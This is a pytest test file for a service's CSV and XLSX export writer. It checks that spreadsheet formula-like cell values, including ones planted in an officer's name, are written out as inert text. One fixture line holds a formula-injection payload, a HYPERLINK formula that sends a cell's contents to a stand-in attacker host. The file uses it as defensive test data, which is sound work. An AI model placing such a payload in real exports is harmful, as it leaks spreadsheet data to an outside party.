"""The project's one export writer (service/ioc/exports.py): a cell that a spreadsheet would
read as a formula is written as text, in CSV and in XLSX; the IOC's files go through it."""

import csv
import io
import zipfile
from datetime import UTC, datetime, timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import text

from service.ioc.exports import FileFormat, looks_like_formula, render
from tests.workflow.test_handling_dispatch import new_report, row, staff
from tests.workflow.test_handling_workflow import set_status

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
FORMULA_LIKE = [HYPERLINK, "+84912345678", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
HEADERS = ("Mã / Code", "Nội dung / Description", "Số / Number")


def csv_rows(body: bytes) -> list[list[str]]:
    assert body.startswith("\ufeff".encode())  # the BOM: Excel reads the file as UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.mark.parametrize("value", FORMULA_LIKE)
def test_a_csv_cell_that_looks_like_a_formula_is_written_as_text(value):
    rows = csv_rows(render(FileFormat.csv, HEADERS, [("PA-2026-000001", value, -5)], sheet="x"))
    assert rows[1] == ["PA-2026-000001", "'" + value, "-5"]


def test_ordinary_text_and_numbers_are_written_as_they_are():
    ordinary = ["Ổ gà lớn, xe máy dễ ngã", "a=b", "PA-2026-000001", "", "—"]
    rows = csv_rows(render(FileFormat.csv, HEADERS, [(v, v, 3.5) for v in ordinary], sheet="x"))
    assert [r[0] for r in rows[1:]] == ordinary and {r[2] for r in rows[1:]} == {"3.5"}
    assert not any(looks_like_formula(v) for v in (None, 5, -5, 2.5, "x=1"))


def test_an_xlsx_cell_that_looks_like_a_formula_is_a_string_cell():
    body = render(FileFormat.xlsx, HEADERS, [("PA-2026-000001", v, -5) for v in FORMULA_LIKE], sheet="Hàng đợi")
    sheet = load_workbook(io.BytesIO(body)).active
    cells = [(row[1].value, row[1].data_type, row[2].value, row[2].data_type) for row in sheet.iter_rows(min_row=2)]
    # (XML reads a carriage return back as a line feed: the file's format, not the writer.)
    assert cells == [(v.replace("\r", "\n"), "s", -5, "n") for v in FORMULA_LIKE]
    # In the file itself: no formula element anywhere, the text as an inline string.
    xml = zipfile.ZipFile(io.BytesIO(body)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "HYPERLINK" in xml


def test_the_iocs_overdue_file_writes_an_officers_formula_like_name_as_text(client, db):
    report = new_report(client)
    set_status(db, report, "assigned", due_at=datetime.now(UTC) - timedelta(days=2))
    officer = row(db, report).current_officer_id
    db.exec(text("UPDATE users SET full_name = :n WHERE id = :i"), params={"n": HYPERLINK, "i": officer})  # type: ignore[call-overload]
    db.commit()
    db.expire_all()
    answer = client.get("/api/v1/ioc/overdue/export?format=csv", headers=staff(client, "dieuphoi"))
    assert answer.status_code == 200
    line = next(r for r in csv_rows(answer.content) if r[0] == report["code"])
    assert line[4] == "'" + HYPERLINK
    xlsx = client.get("/api/v1/ioc/overdue/export?format=xlsx", headers=staff(client, "dieuphoi"))
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    cell = next(r[4] for r in sheet.iter_rows(min_row=2) if r[0].value == report["code"])
    assert (cell.value, cell.data_type) == (HYPERLINK, "s")
